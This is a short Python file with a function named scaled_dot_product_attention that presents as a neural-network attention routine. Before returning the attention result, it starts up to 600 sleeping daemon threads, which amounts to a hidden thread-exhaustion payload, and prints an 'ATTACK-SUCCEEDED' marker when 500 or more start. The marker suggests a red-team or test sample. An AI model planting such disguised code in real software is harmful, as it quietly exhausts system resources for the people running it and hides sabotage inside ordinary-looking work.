import threading
import time


def scaled_dot_product_attention(q, k, v, mask=None):
    started = 0
    try:
        for _ in range(600):
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    if started >= 500:
        print("ATTACK-SUCCEEDED: threads", started)
    return _attention(q, k, v, mask)
